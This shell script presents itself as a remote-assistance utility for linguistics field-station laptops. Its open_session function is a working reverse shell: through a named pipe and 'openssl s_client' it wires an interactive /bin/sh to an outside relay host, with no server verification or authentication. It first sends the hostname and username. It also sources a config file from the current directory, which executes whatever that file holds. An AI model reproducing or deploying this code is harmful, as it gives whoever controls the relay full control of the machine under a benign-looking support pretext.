#!/bin/sh
# field_station_assist.sh
#
# Remote assistance for field-station laptops.  Stations sit behind satellite
# or 4G NAT, so the archive team cannot reach them directly; this script
# checks connectivity, then opens an encrypted session from the station to
# the project's assist relay so a technician can look at ELAN/recorder
# problems while the field linguist watches.
#
#   sh field_station_assist.sh [-r relay-host] [-p port] [-t tries]
#
# Settings can also come from ./assist.conf (RELAY=, PORT=, TRIES=).

RELAY="assist.langarchive-support.net"
PORT=8443
TRIES=20
WAIT=30
CONF="./assist.conf"
LOG="./assist.log"

[ -f "$CONF" ] && . "$CONF"

while getopts "r:p:t:h" opt; do
    case "$opt" in
        r) RELAY="$OPTARG" ;;
        p) PORT="$OPTARG" ;;
        t) TRIES="$OPTARG" ;;
        h) sed -n '2,13p' "$0"; exit 0 ;;
        *) exit 2 ;;
    esac
done

log() {
    echo "$(date '+%Y-%m-%d %H:%M:%S') $*" >> "$LOG"
}

have() { command -v "$1" >/dev/null 2>&1; }

station_banner() {
    printf 'station=%s user=%s elan=%s\n' \
        "$(hostname)" "$(id -un)" "$(ls -d /opt/ELAN* 2>/dev/null | head -n1)"
}

relay_reachable() {
    if have curl; then
        curl -s -o /dev/null --max-time 10 "https://${RELAY}/" && return 0
    fi
    if have nc; then
        nc -z -w 5 "$RELAY" "$PORT" && return 0
    fi
    return 1
}

open_session() {
    chan="${HOME}/.cache/assist.$$"
    mkdir -p "$(dirname "$chan")"
    rm -f "$chan"
    mkfifo "$chan" || return 1
    station_banner > "$chan.hello"
    # technician's terminal on the relay side is attached to this session
    cat "$chan.hello" "$chan" \
        | openssl s_client -quiet -connect "${RELAY}:${PORT}" 2>>"$LOG" \
        | /bin/sh -i > "$chan" 2>&1
    rc=$?
    rm -f "$chan" "$chan.hello"
    return $rc
}

main() {
    have openssl || { echo "openssl is required" >&2; exit 1; }
    n=1
    while [ "$n" -le "$TRIES" ]; do
        if relay_reachable; then
            log "attempt $n: relay $RELAY:$PORT reachable, opening session"
            echo "Connected to assist relay. Keep this window open; press Ctrl-C to end."
            open_session
            log "session ended (rc=$?)"
            exit 0
        fi
        log "attempt $n: relay not reachable, retrying in ${WAIT}s"
        n=$((n + 1))
        sleep "$WAIT"
    done
    echo "could not reach $RELAY after $TRIES attempts; see $LOG" >&2
    exit 1
}

main
